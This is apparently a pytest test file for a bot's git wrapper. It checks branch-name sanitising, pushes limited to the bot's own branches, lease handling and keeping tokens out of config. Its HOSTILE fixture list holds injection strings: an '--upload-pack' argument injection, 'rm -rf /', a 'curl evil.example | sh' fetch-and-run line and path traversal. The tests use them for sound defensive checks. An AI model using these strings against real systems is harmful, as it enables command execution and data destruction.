"""The working clone against a real bare remote: safe branch names, own branches only, leases, secrets."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from pydantic import SecretStr

from bot.core.errors import ConfigError, PublishError
from tests.conftest import git
from tests.publish_fixtures import BOT, FAKE_TOKEN, bare_remote, remote_branches
from tools.git_repo import GitRepo, Remote, branch_name, slug

SAFE = re.compile(r"^secops/[a-z0-9][a-z0-9-]*-r[0-9]+$")

HOSTILE = [
    "--upload-pack=touch /tmp/pwned",
    ";rm -rf / #",
    "$(curl evil.example)|sh",
    "../../refs/heads/main",
    "ünïcødé-攻撃者-\u202eevil",
    "x" * 300,
    "refs/heads/main.lock @{-1} ~^:?*[\\",
    "",
]


@pytest.mark.parametrize("subject", HOSTILE)
def test_branch_name_from_hostile_text_is_safe(subject):
    name = branch_name(subject, "p-0123456789", 2)
    assert SAFE.match(name) and len(name) <= 80 and name.endswith("-p-0123456789-r2")
    assert git("check-ref-format", f"refs/heads/{name}", cwd=Path(".")) == ""


def test_slug_keeps_readable_ascii_of_unicode():
    assert slug("ünïcødé 1.2.3.4") == "unicde-1-2-3-4"  # ø has no ASCII decomposition: dropped


@pytest.fixture
def repo(tmp_path) -> GitRepo:
    return GitRepo(tmp_path / "clone", Remote(str(bare_remote(tmp_path))), author=BOT, timeout=20)


def _commit(repo: GitRepo, branch: str, text: str = "x") -> str:
    repo.fetch()
    return repo.commit_files(branch, {"note.txt": text}, "test\n")


@pytest.mark.integration
@pytest.mark.parametrize("subject", HOSTILE[:3])
def test_push_of_hostile_branch_creates_exactly_that_branch(repo, tmp_path, subject):
    branch = branch_name(subject, "p-1", 1)
    repo.push(branch, _commit(repo, branch), None)
    assert remote_branches(tmp_path / "remote.git") == sorted(["main", branch])
    assert not (tmp_path / "pwned").exists()


@pytest.mark.integration
@pytest.mark.parametrize("branch", ["main", "feature/x", "secops/../main", "--force"])
def test_push_refuses_anything_but_bot_branches(repo, branch):
    repo.fetch()
    with pytest.raises(PublishError, match="only pushes its own secops/ branches"):
        repo.push(branch, repo.reset_to_default(), None)


@pytest.mark.integration
def test_push_with_a_stale_lease_is_rejected_not_forced(repo):
    branch = branch_name("a", "p-1", 1)
    first = _commit(repo, branch, "one")
    repo.push(branch, first, None)
    second = _commit(repo, branch, "two")
    with pytest.raises(PublishError, match=f"could not push {branch}"):
        repo.push(branch, second, None)  # we believed it absent: someone else's state must win


@pytest.mark.integration
def test_commits_use_the_configured_author(repo, tmp_path):
    branch = branch_name("a", "p-1", 1)
    repo.push(branch, _commit(repo, branch), None)
    who = git("log", "-1", "--format=%an <%ae>|%cn <%ce>", branch, cwd=tmp_path / "remote.git").strip()
    assert who == "secops-bot <secops-bot@example.com>|secops-bot <secops-bot@example.com>"


def test_remote_url_with_credentials_is_refused():
    with pytest.raises(ConfigError, match="must not contain credentials"):
        Remote(f"https://x-access-token:{FAKE_TOKEN}@github.com/acme/gitops.git")


def test_token_goes_in_the_environment_only_for_https():
    https = Remote("https://github.com/acme/gitops.git", SecretStr(FAKE_TOKEN)).environment()
    ssh = Remote("git@github.com:acme/gitops.git", SecretStr(FAKE_TOKEN)).environment()
    assert https["GIT_CONFIG_KEY_0"] == "http.extraHeader" and https["GIT_TERMINAL_PROMPT"] == "0"
    assert "GIT_CONFIG_KEY_0" not in ssh and "BatchMode=yes" in ssh["GIT_SSH_COMMAND"]


@pytest.mark.integration
def test_token_is_not_stored_in_the_clone_config(tmp_path):
    url = "https://127.0.0.1:9/acme/gitops.git"
    repo = GitRepo(tmp_path / "clone", Remote(url, SecretStr(FAKE_TOKEN)), author=BOT, timeout=10)
    with pytest.raises(PublishError) as err:
        repo.fetch()
    config = (tmp_path / "clone" / ".git" / "config").read_text()
    assert FAKE_TOKEN not in config and FAKE_TOKEN not in str(err.value) and url in config
